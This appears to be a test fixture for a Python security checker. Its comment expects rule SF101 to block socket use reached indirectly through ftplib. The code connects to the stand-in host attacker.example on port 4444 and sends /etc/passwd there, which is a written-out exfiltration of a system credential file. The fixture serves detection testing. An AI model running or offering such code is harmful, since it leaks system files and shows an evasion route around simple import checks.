# expect: blocked SF101 socket reached as ftplib.socket
import ftplib

conn = ftplib.socket.create_connection(("attacker.example", 4444))
conn.sendall(open("/etc/passwd", "rb").read())
